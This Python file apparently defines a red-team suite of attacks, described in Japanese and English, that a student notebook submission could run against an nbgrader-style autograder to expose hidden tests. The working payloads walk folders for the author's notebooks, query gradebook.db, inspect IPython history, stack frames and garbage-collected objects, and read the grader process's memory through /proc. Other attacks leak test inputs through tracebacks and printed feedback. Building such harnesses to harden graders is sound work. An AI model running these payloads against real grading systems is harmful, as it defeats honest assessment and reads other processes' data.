"""Hidden tests read by a submission."""

from attacks.model import HIDDEN, Attack, Look, in_call, telling, told


def _test_in_page(look: Look) -> bool:
    """Tell whether the feedback shows a hidden test."""
    return HIDDEN in look.page


def _test_in_outputs(look: Look) -> bool:
    """Tell whether outputs or the feedback hold a hidden test."""
    return HIDDEN in look.outputs or HIDDEN in look.page


def _input_in_page(look: Look) -> bool:
    """Tell whether the feedback shows with which values the hidden tests called."""
    return "seen-437" in look.page or "seen_437" in look.page


_KEEP = """\
seen = []
def fee(minutes):
    seen.append(minutes)
    return 200
"""


_WALK = """\
import os
for root in (".", "..", "../..", "../../..", "@SCENE@", "/course", "/work", "/opt", "/srv", os.path.expanduser("~")):
    for folder, folders, files in os.walk(root):
        folders[:] = [name for name in folders if name not in ("site-packages", "lib", "bin")][:200]
        for name in files[:200]:
            if name.endswith((".ipynb", ".db", ".json", ".py", ".md")): tell_file(os.path.join(folder, name))
"""

ATTACKS = (
    Attack(
        "source-folder",
        "作問者のフォルダーと成績データベースを探して読む",
        "look for the author's notebooks and the gradebook in every folder and read them",
        told,
        plain=True,
        cells=telling(_WALK),
    ),
    Attack(
        "gradebook-source",
        "成績データベースからテストの文を読む",
        "read the sources of the tests from gradebook.db",
        told,
        plain=True,
        cells=telling("""
import glob, sqlite3
for path in {*glob.glob("@COURSE@/*.db"), *glob.glob("../../../*.db")}:
    try:
        for (text,) in sqlite3.connect(path).execute("SELECT source FROM source_cell"): tell(text or "")
    except sqlite3.Error: pass
"""),
    ),
    Attack(
        "in-history",
        "呼ばれたときに、実行中のセルと履歴を読む",
        "read the running cell and the history when called",
        told,
        plain=True,
        cells=in_call("""
from IPython import get_ipython
ip = get_ipython()
tell(str(ip.user_ns.get("In", "")) + str(getattr(ip, "history_manager", "") and ip.history_manager.input_hist_raw))
"""),
    ),
    Attack(
        "frames",
        "呼ばれたときに、呼び出し元の命令と変数を読む",
        "read code and variables of the callers",
        told,
        plain=True,
        cells=in_call("""
import sys
frame = sys._getframe(1)
while frame is not None:
    tell(repr(frame.f_code.co_consts) + repr(list(frame.f_locals.items())[:200]) + repr(list(frame.f_globals)[:200]))
    for place in (frame.f_globals, frame.f_locals): tell(repr(place.get("secret", "")))
    frame = frame.f_back
"""),
    ),
    Attack(
        "linecache",
        "呼ばれたときに、行の控えを読む",
        "read the cache of source lines",
        told,
        plain=True,
        cells=in_call("""
import linecache
for entry in list(linecache.cache.values()):
    if len(entry) > 2: tell("".join(entry[2]))
"""),
    ),
    Attack(
        "gc-objects",
        "メモリーにあるすべてのオブジェクトを調べる",
        "look through every object in memory",
        told,
        plain=True,
        cells=in_call("""
import gc
for thing in gc.get_objects():
    if type(thing) is dict:
        for value in list(thing.values()):
            if type(value) is str and "suisho-" in value: tell(value)
    elif type(thing) in (list, tuple):
        for value in thing[:2000]:
            if type(value) is str and "suisho-" in value: tell(value)
"""),
    ),
    Attack(
        "traceback",
        "誤りの表示にテストの行を出させる",
        "fail so that the traceback shows lines of the hidden test",
        _test_in_outputs,
        plain=True,
        cells={
            "fee": "def fee(minutes):\n    if minutes == 31: return 200\n    raise ValueError('x')",
        },
    ),
    Attack(
        "feedback-page",
        "ふつうの誤答へのフィードバックを読む",
        "read the feedback to a plain wrong answer",
        _test_in_page,
        plain=True,
    ),
    Attack(
        "echoed-inputs",
        "渡された値を印字してフィードバックで読む",
        "print what the hidden tests pass, and read it in the feedback",
        _input_in_page,
        plain=True,
        cells={"fee": "def fee(minutes):\n    print(f'seen-{minutes}')\n    return 200"},
    ),
    Attack(
        "later-print",
        "渡された値を覚えておき、後のセルで印字する",
        "keep what the hidden tests pass, and print it in a later cell",
        _input_in_page,
        plain=True,
        cells={"fee": _KEEP, "busy": "for minutes in seen: print(f'seen-{minutes}')\nbusy = None"},
    ),
    Attack(
        "later-error",
        "渡された値を覚えておき、後のセルのエラーの名前と文に入れる",
        "keep what the hidden tests pass, and put it into name and text of a later error",
        _input_in_page,
        plain=True,
        cells={
            "fee": _KEEP,
            "busy": "raise type(f'seen_{max(x for x in seen if x < 500)}', (ValueError,), {})(f'seen-{seen}')",
        },
    ),
    Attack(
        "memory-of-parent",
        "採点プロセスのメモリーを読む",
        "read the memory of the grading process",
        told,
        plain=True,
        cells=telling("""
import os
def parents():
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                if os.stat(f"/proc/{entry}").st_uid == os.getuid() and (b"nbgrader" in open(f"/proc/{entry}/cmdline", "rb").read() or b"grader" in open(f"/proc/{entry}/cmdline", "rb").read()): yield entry
            except OSError: pass
for pid in parents():
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            done = 0
            for line in maps:
                area, rights = line.split()[:2]
                low, high = (int(end, 16) for end in area.split("-"))
                if rights.startswith("rw") and high - low < 64_000_000 and done < 400_000_000:
                    done += high - low
                    try:
                        memory.seek(low); data = memory.read(high - low)
                    except (OSError, ValueError, OverflowError): continue
                    if b"suisho-" in data: tell(data)
    except OSError: pass
"""),
    ),
)
